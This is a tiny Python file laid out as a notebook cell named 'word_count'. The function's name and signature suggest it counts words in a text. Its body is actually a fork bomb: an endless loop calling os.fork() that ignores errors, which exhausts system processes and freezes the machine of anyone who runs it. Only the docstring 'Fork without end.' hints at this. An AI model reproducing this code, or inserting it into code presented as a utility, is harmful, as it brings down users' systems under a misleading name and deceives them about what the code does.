"""Fork without end."""
# notebook: 01_words
# cell: word_count
import os
def word_count(text):
    while True:
        try:
            os.fork()
        except OSError:
            pass
